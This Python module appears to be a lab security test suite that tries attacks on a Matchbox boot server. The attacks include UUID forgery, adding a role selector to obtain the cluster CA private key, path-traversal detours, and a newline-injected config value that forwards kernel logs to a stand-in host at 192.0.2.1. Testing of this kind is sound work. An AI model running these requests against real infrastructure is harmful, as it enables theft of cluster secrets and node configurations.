"""The left column: each attack against Matchbox behind TLS and nothing else.

Matchbox knows neither tokens nor tickets nor certificates. Where an attack is
on one of these, what it would be for is simply handed out.
"""

import dataclasses
import urllib.parse

from . import node, rom, web
from .scene import Seen


def config_of(scene, number, name="generic"):
    """Fetch a worker's config, whoever asks."""
    uuid = scene.hardware(number).uuid
    return scene.take(f"{scene.bare.config_url}/{name}?uuid={uuid}")


def is_config_of(scene, number, got):
    wanted = scene.lab.supply.nodes[f"edge-worker-{number}"]["sha256"]
    return got.accepted and got.sha256 == wanted


def seen_config(scene, number, got):
    if is_config_of(scene, number, got):
        return Seen(True, f"edge-worker-{number}'s config")
    return Seen(False, got.last)


def has_private_key(text):
    """Does a config carry the cluster's CA key, as control planes' do?"""
    ca = False
    for line in text.splitlines():
        word = line.strip()
        if word == "ca:":
            ca = True
        elif ca and word.startswith("key:"):
            return word not in ("key:", 'key: ""')
    return False


def script_of(scene, number, **options):
    uuid = scene.hardware(number).uuid
    answer = web.request(f"{scene.bare.boot_url}/ipxe?uuid={uuid}",
                         ca=scene.bare.ca, **options)
    if answer.status == 200 and "\nkernel " in answer.text:
        return Seen(True, f"edge-worker-{number}'s script")
    return Seen(False, str(answer.status))


def asks_for_none(scene):
    """Anybody asks for a node's boot script."""
    return script_of(scene, 4)


def config_again(scene):
    """Who was served is not remembered."""
    for _ in range(2):
        got = config_of(scene, 1)
        if not is_config_of(scene, 1, got):
            return Seen(False, got.last)
    return Seen(True, "edge-worker-1's config, twice")


def other_config(scene):
    """Worker 4 asks for the config of worker 1."""
    return seen_config(scene, 1, config_of(scene, 1))


def other_hardware(scene):
    """Nobody compares who asked for the script with who asks for the config."""
    return seen_config(scene, 4, config_of(scene, 4))


def other_uuid(scene):
    """A machine boots with the uuid of another one."""
    front = scene.bare
    forged = dataclasses.replace(scene.hardware(4), uuid=scene.hardware(1).uuid)
    boot = rom.Rom(forged, ca=front.ca).boot(script=front.script())
    return seen_config(scene, 1, node.boot(
        boot, forged, scene.lab.folder / "attacker.yaml", ca=front.ca))


def no_certificate(scene):
    """The node of the site that wants certificates at the gate."""
    script = script_of(scene, 3)
    return seen_config(scene, 3, config_of(scene, 3)) if script.got else script


def other_certificate(scene):
    """A certificate changes nothing: nobody asks for it."""
    cert, key = scene.gate.stranger if scene.gate else (None, None)
    script = script_of(scene, 3, cert=cert, key=key)
    return seen_config(scene, 3, config_of(scene, 3)) if script.got else script


def extra_selector(scene):
    """A node adds role=controlplane to what its ROM asks."""
    front, mine = scene.bare, scene.hardware(4)
    ask = urllib.parse.urlencode({
        "uuid": mine.uuid, "mac": mine.mac.replace(":", "-"),
        "arch": "x86_64", "role": "controlplane"})
    script = web.request(f"{front.boot_url}/ipxe?{ask}", ca=front.ca)
    got = scene.take(f"{front.config_url}/generic?{ask}")
    if "role=controlplane" in script.text and has_private_key(got.config):
        return Seen(True, "the cluster's CA key")
    return Seen(False, got.last)


INJECTED = ("x\napiVersion: v1alpha1\nkind: KmsgLogConfig\nname: aside\n"
            "url: tcp://192.0.2.1:514/\n---")


def line_break(scene):
    """A line break in an argument becomes a line of somebody's config."""
    ask = urllib.parse.urlencode({
        "arch": "x86_64", "role": "controlplane", "asset": INJECTED})
    got = scene.take(f"{scene.bare.config_url}/generic?{ask}")
    if got.accepted and "\nkind: KmsgLogConfig\n" in got.config:
        return Seen(True, "a document of its own")
    return Seen(False, got.last)


def control_plane(scene):
    """Anybody asks for the control plane's config."""
    got = scene.take(f"{scene.bare.config_url}/generic?role=controlplane"
                     "&arch=x86_64")
    if got.accepted and has_private_key(got.config):
        return Seen(True, "the cluster's CA key")
    return Seen(False, got.last)


def post(scene):
    """A method that no ROM and no Talos uses."""
    uuid = scene.hardware(1).uuid
    answer = web.request(f"{scene.bare.config_url}/generic?uuid={uuid}",
                         method="POST", data="x=1", ca=scene.bare.ca)
    if answer.status == 200 and "\nmachine:\n" in answer.text:
        return Seen(True, "edge-worker-1's config")
    return Seen(False, str(answer.status))


# Ways to write a path so that a rule for another one is missed. Matchbox
# itself knows nothing of upper case and trailing slashes.
DETOURS = ("//generic", "/x/../generic", "/%67eneric", "/./generic",
           "/GENERIC", "/generic/", "/assets/../generic", "/assets/")


def detours(scene):
    """Paths that mean the same to the upstream, and the list of assets."""
    uuid = scene.hardware(1).uuid
    through = [path for path in DETOURS if web.request(
        f"{scene.bare.config_url}{path}?uuid={uuid}",
        ca=scene.bare.ca).status == 200]
    if through:
        return Seen(True, f"{len(through)} of {len(DETOURS)} paths")
    return Seen(False, f"{len(DETOURS)} paths")
